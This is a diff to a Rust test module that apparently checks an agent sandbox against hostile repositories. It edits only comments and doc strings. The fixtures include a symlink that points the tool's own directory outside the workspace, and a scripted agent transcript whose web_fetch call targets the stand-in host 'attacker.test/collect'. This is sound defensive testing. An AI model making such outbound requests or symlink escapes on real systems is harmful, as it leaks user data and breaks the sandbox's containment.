@@ -1,5 +1,5 @@
-//! Repositories that a person works in: links in the place of files that belljar writes, and models
-//! that ask for the attacker's host.
+//! Attacks by repositories that a person works in: links in place of files that belljar writes, and models
+//! that request the attacker's host.
 
 use std::os::unix::fs::symlink;
 
@@ -11,11 +11,11 @@ const BELOW: &str = "names are opened from the open workspace, and no link is fo
 
 const NAMED: &str = "a ready command is for hosts that a person's file or words name (INV-432)";
 
-/// The agent whose model asks.
+/// The agent file whose model makes the request.
 const GUEST: &str =
     "---\nname: guest\ndescription: Reads.\ntools: [web_fetch]\n---\nRead what you are told.\n";
 
-/// A model that asks for the attacker's host.
+/// A model's transcript that requests the attacker's host.
 const ASKS: &str = "transcript: 1\nagents:\n  - agent: guest\n    turns:\n      - calls: \
     [{name: web_fetch, arguments: {url: 'https://attacker.test/collect'}}]\n      - say: \
     Let me have the host.\n";
@@ -42,7 +42,7 @@ pub(super) const ATTACKS: &[Attack<LibraryStage>] = &[
         false,
         |stage| {
             Box::pin(async move {
-                // Another one than the neighbour's, who is told of the link too.
+                // A workspace of its own, because the neighbour's commands would report the link too.
                 let workspace = stage.path("workspace/cloned");
                 std::fs::create_dir(&workspace)?;
                 symlink(stage.path("outside"), workspace.join(".belljar"))?;
